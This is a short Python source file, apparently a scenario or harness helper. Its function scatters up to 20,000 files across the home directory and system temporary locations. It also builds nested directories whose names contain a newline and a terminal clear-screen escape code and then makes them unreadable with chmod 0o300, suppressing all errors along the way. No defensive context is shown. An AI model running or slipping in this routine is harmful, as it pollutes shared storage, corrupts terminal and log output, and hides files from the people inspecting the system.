import contextlib
import os

PLACES = (os.environ.get("HOME", "/tmp"), "/tmp", "/var/tmp", "/dev/shm", "/run", "/app", "/scenarios")


def littered():
    made = 0
    for place in PLACES:
        with contextlib.suppress(OSError):
            os.chdir(place)
            for number in range(20_000 - made):
                if number % 1000:
                    os.close(os.open(f"file {number}", os.O_CREAT | os.O_WRONLY, 0))
                else:
                    os.mkdir(f"folder\n\x1b[2J {number}", 0o777)
                    os.chdir(f"folder\n\x1b[2J {number}")
                    os.chmod(".", 0o300)
                made += 1
    return made
